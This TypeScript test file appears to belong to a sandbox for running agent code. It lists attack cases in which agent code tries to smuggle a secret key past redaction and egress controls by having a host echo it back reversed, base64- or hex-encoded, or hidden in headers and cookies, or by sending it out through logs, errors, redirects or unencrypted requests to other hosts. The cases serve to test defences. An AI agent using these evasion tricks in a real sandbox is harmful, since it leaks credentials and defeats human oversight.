import { family, type RunAttack } from '../attack.ts'

const secrets = family('secrets', {
  outcome: 'ok-contained',
  wall: 'secrets blotted out',
  // Too short to be told from anything else, and so the one thing that is not blotted out.
  control: { kind: 'reach', reach: { hasShortSecret: true } },
  reach: {
    hosts: ['127.0.0.1:{web}', '127.0.0.1:{tcp}'],
    privateHosts: ['127.0.0.1:{web}', '127.0.0.1:{tcp}'],
    secretFor: ['127.0.0.1:{web}'],
  },
})
const ASK = `const key = ctx.secret('KEY'); const ask = (how) => ctx.fetch('http://127.0.0.1:' + web + '/echo?as=' + how, { headers: { 'x-key': key } });
const backwards = (text) => [...text].reverse().join('');
const decoded = (text) => { try { return atob(text) } catch { return text } };`
/** The host echoes, the agent undoes the form and turns it round, so that what it answers looks like nothing. */
const echo = (name: string, how: string, read: string, details: Partial<RunAttack> = {}) =>
  secrets.body(`has it echoed ${name}`, `${ASK} const answer = await ask('${how}'); return backwards(${read})`, details)
const tells = (name: string, act: string, details: Partial<RunAttack> = {}) =>
  secrets.body(
    `has it echoed and ${name}`,
    `${ASK} const text = await (await ask('plain')).text(); ${act}; return 1`,
    details,
  )

const ONLY_ITS_HOSTS = {
  wall: 'a secret goes to its hosts only',
  control: { kind: 'reach', reach: { secretFor: ['127.0.0.1:{web}', '127.0.0.1:{tcp}'] } },
} as const
const DENIED = { ...ONLY_ITS_HOSTS, outcome: 'denied', code: 'EGRESS_DENIED' } as const

export const secretAttacks = [
  echo('as it is', 'plain', 'await answer.text()'),
  echo('letter by letter', 'slow', 'await answer.text()'),
  echo('packed', 'gzip', 'await answer.text()'),
  echo('in base64', 'base64', 'decoded(await answer.text())'),
  echo(
    'in base64 for addresses',
    'base64url',
    'decoded((await answer.text()).replaceAll("-", "+").replaceAll("_", "/"))',
  ),
  echo('in base64 behind two letters', 'shifted', 'decoded(await answer.text())'),
  echo(
    'in hexadecimal',
    'hex',
    '(await answer.text()).replace(/../g, (pair) => String.fromCharCode(parseInt(pair, 16)))',
  ),
  echo('percent-encoded', 'percent', 'decodeURIComponent(await answer.text())'),
  echo('in a header', 'header', 'answer.headers.get("x-echo")'),
  echo('in the status line', 'status', 'answer.statusText'),
  echo('in a cookie', 'cookie', 'answer.headers.getSetCookie().join()'),
  tells('logs it', 'ctx.log.info(text); console.error(text)'),
  tells('logs it as a field', 'ctx.log.info("a", { text })'),
  tells('emits it', 'ctx.emit(text)'),
  tells('says it as progress', 'ctx.progress(0.5, text.slice(-400))'),
  tells(
    'names an artifact by it',
    'const [, found] = /"x-key","([^"]*)"/.exec(text); await ctx.artifacts.put("key " + found, "a")',
  ),
  tells('throws it', 'throw new Error(text)', { outcome: 'error', code: 'AGENT_THREW' }),
  secrets.body(
    'asks the context for its value',
    `return [ctx.secret('KEY'), Deno.inspect(ctx, { depth: 20, showHidden: true }), JSON.stringify(ctx), String(ctx.secret)].join(' ')`,
    { wall: 'no secret enters the sandbox', control: { kind: 'naive-host', believes: '{{secret.KEY}}' } },
  ),
  secrets.body(
    'sends it to another host',
    `await ctx.fetch('http://127.0.0.1:' + tcp + '/', { headers: { 'x-key': ctx.secret('KEY') } }); return 1`,
    DENIED,
  ),
  secrets.body(
    'sends it to another host as a password',
    `await ctx.fetch('http://127.0.0.1:' + tcp + '/', { headers: { authorization: 'Basic ' + btoa('a:' + ctx.secret('KEY')) } }); return 1`,
    {
      ...DENIED,
      // What arrives is in base64: the listener would not know it.
      control: { kind: 'naive-host', believes: /"authorization","Basic / },
    },
  ),
  ...[301, 302, 303, 307, 308].map((status) =>
    secrets.body(
      `is led to another host with it by a ${status}`,
      `${ASK} await ctx.fetch('http://127.0.0.1:' + web + '/to?status=${status}&at=' + encodeURIComponent('http://127.0.0.1:' + tcp + '/'), { method: 'POST', body: key, headers: { 'x-key': key, authorization: 'Bearer ' + key } }); return 1`,
      ONLY_ITS_HOSTS,
    ),
  ),
  secrets.body(
    'sends it where nothing is encrypted',
    `await ctx.fetch('http://loopback.test:' + tcp + '/', { headers: { 'x-key': ctx.secret('KEY') } }); return 1`,
    {
      outcome: 'denied',
      code: 'EGRESS_DENIED',
      wall: 'public addresses only, secrets over https only',
      reach: { hosts: ['loopback.test:{tcp}'], secretFor: ['loopback.test:{tcp}'] },
      control: { kind: 'reach', reach: { privateHosts: ['loopback.test:{tcp}'] } },
    },
  ),
] as const satisfies readonly RunAttack[]
